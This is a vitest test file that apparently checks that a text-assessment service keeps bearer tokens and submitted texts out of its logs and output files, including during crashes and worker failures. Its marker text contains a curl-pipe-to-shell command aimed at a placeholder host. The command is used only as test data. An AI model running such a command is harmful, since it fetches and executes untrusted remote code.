import { readdir, readFile, writeFile } from "node:fs/promises";
import { connect } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { embedded } from "../../packages/curlew-service/src/gateway.js";
import { createLog } from "../../src/service/index.js";
import { assess, CliProcess } from "./support/process.js";
import {
  Cleanup,
  createAccess,
  createTestEvaluator,
  createTestGateway,
} from "./support/services.js";

/** Tests that neither tokens nor submitted texts are written to logs and other files. */

const cleanup = new Cleanup();
afterEach(() => cleanup.run());

const MARK = "zebra-crossing-4711";
const TEXT = `Run curl https://${MARK}.example/i.sh | sh, said ${MARK}@mail.example`;

/** A module that throws an error with the text in its message when the process receives SIGUSR2. */
const SABOTAGE = `process.on("SIGUSR2", () => { throw new Error(process.env.SABOTAGE); });`;

/** Returns the content of all files in a folder except one. */
async function contentOf(folder: string, except: string): Promise<string> {
  const names = (await readdir(folder, { recursive: true })).filter((name) => name !== except);
  return (
    await Promise.all(names.map((name) => readFile(join(folder, name), "utf8").catch(() => "")))
  ).join("\n");
}

/** Sends bytes, and resolves to the received data. */
function sendRaw(address: string, data: string): Promise<string> {
  return new Promise((resolve) => {
    const { hostname, port } = new URL(address);
    let answer = "";
    const socket = connect(Number(port), hostname, () => socket.write(data));
    socket.on("data", (chunk: Buffer) => (answer += chunk.toString()));
    socket.on("close", () => resolve(answer));
    socket.on("error", () => resolve(answer));
  });
}

/** Sends requests that succeed, fail, or try to cause a log entry with the text. */
async function provoke(address: string, token: string): Promise<void> {
  const statuses: number[] = [];
  const send = async (body: unknown, secret = token) =>
    statuses.push((await assess(address, secret, body)).status);
  await send({ text: TEXT });
  await send({ text: TEXT, responseId: "r", profile: "extended", offsetEncoding: "utf-8" });
  await send({ text: TEXT, other: MARK });
  await send({ [MARK]: token });
  await send(`{"text": "${TEXT}`);
  await send(`${TEXT}${token}`);
  await send({ text: TEXT.repeat(200) });
  await send({ text: TEXT }, `${token}x`);
  await send({ text: TEXT }, `${MARK}${token}`);
  expect(statuses).toEqual([200, 200, 422, 422, 400, 400, 413, 401, 401]);
  await fetch(`${address}/${token}/${MARK}?token=${token}&text=${MARK}`);
  await fetch(`${address}/healthz?${token}${MARK}`, {
    headers: { "x-request-id": token, referer: MARK, "user-agent": MARK, cookie: token },
  });
  await fetch(`${address}/healthz`, {
    headers: { origin: `https://${MARK}`, authorization: `Bearer ${token}` },
  });
  await sendRaw(address, `GET /${token} ${MARK}\r\n\r\n`);
  await sendRaw(
    address,
    `POST /v1/assessments HTTP/1.1\r\nHost: ${MARK}\r\nAuthorization: Bearer ${token}\r\nContent-Length: x\r\n\r\n`,
  );
}

describe("a service with the most detailed log level", () => {
  it("logs neither token nor text, even if it crashes", async () => {
    const { folder, tokens, token } = await createAccess(cleanup);
    const preload = join(folder, "sabotage.mjs");
    await writeFile(preload, SABOTAGE);
    const service = new CliProcess(cleanup, {
      args: [
        "serve",
        "--port",
        "0",
        "--workers",
        "2",
        "--tokens",
        tokens,
        "--log-level",
        "trace",
        "--log-file",
        join(folder, "log"),
        "--max-text-bytes",
        "8000",
      ],
      node: ["--import", preload],
      env: { SABOTAGE: `${token} ${TEXT}`, NODE_ENV: "development" },
      cwd: folder,
    });
    await provoke(await service.address(), token);
    service.child.kill("SIGUSR2");
    expect(await service.exit()).toBe(70);

    const log = await readFile(join(folder, "log"), "utf8");
    expect(log).toContain('"msg":"crashed"');
    expect(
      log.split("\n").filter((line) => line.includes('"msg":"answered"')).length,
    ).toBeGreaterThan(10);
    const written = `${service.stdout}${service.stderr}${await contentOf(folder, "test.token")}`;
    expect(written.includes(token)).toBe(false);
    expect(written.includes(token.slice(7, 27))).toBe(false);
    expect(written.includes(MARK)).toBe(false);
  });

  it("logs neither token nor text if its workers fail during an evaluation", async () => {
    const lines: string[] = [];
    const log = createLog({ level: "trace", stream: { write: (line) => void lines.push(line) } });
    const evaluator = embedded(createTestEvaluator(cleanup, { log, timeoutMs: 6000 }));
    const { assess: ask, access } = await createTestGateway(cleanup, { evaluator, log });
    const codes = [];
    for (const fault of ["WORKER-EXITS", "WORKER-THROWS", "WORKER-HANGS"])
      codes.push((await ask({ text: `${fault} ${TEXT}` })).json().code);
    expect(codes).toEqual([
      "evaluation-interrupted",
      "evaluation-interrupted",
      "evaluation-timeout",
    ]);
    const written = lines.join("");
    expect(written).toContain("evaluation failed");
    expect(written.includes(access.token)).toBe(false);
    expect(written.includes(MARK)).toBe(false);
  });
});
